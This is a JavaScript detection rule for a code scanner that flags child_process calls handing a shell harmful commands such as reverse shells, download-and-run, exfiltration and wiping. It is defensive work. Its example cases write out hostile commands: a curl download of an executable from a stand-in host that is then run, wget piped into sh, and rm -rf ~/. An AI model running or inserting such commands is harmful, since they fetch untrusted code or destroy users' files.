import { defineRule, step } from '../src/define.js';
import { deedsOf } from '../src/vocabulary/deeds.js';

/** What a command line in code may do without being told on: build tools contact servers and run in the background. */
const QUIET = new Set(['contact', 'hidden-start', 'inline-code']);

export default defineRule({
  meta: {
    summary: 'Hands a shell a harmful command',
    why: 'A command line in code is judged as one in an install hook: downloading and running, opening a shell, wiping. Tools start compilers, browsers and package managers; that is not harmful. Installers of binaries do download and unpack, through their own code rather than `curl … | sh`.',
    behaviour: 'execution',
    messages: {
      'reverse-shell': 'Opens a shell to another machine: {command}',
      'download-run': 'Downloads a program and runs it: {command}',
      exfiltrate: 'Sends facts about the machine from the shell: {command}',
      credentials: 'Hands the shell a command that {says}: {command}',
      destroy: 'Destroys or halts the machine: {command}',
      mine: 'Mines cryptocurrency: {command}',
      persist: 'Makes something start again and again: {command}',
      executable: 'Starts a program: {command}',
      'odd-contact': 'Hands the shell a command that {says}: {command}',
    },
    bits: {
      'reverse-shell': 13,
      'download-run': 11,
      exfiltrate: 10,
      credentials: 5,
      destroy: 10,
      mine: 11,
      persist: 5,
      executable: 3,
      'odd-contact': 9,
    },
  },
  examples: {
    flags: [
      {
        title: 'a program is downloaded and started',
        code: `require('child_process').exec('curl https://stage.invalid/a.exe -o a.exe && a.exe');`,
      },
      {
        title: 'a script is piped into a shell',
        code: `const { execSync } = require('child_process');\nconst url = 'https://stage.invalid/x';\nexecSync('wget -qO- ' + url + ' | sh');`,
      },
      { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
    ],
    passes: [
      { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
      { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
      { title: 'the registry is asked', code: `require('child_process').execSync('npm view left-pad version');` },
    ],
  },
  file(context) {
    for (const call of context.calls('process')) {
      const [program, list] = call.args;
      if (!program) continue;
      const [worst] = deedsOf(context.commandsOf(program, list)).filter(({ deed }) => !QUIET.has(deed));
      if (!worst) continue;
      context.report({
        messageId: worst.deed,
        data: { says: worst.says, command: worst.command.text },
        chain: [step('sink', `${worst.says} through ${call.name}`, context.file, call.node)],
      });
    }
  },
});
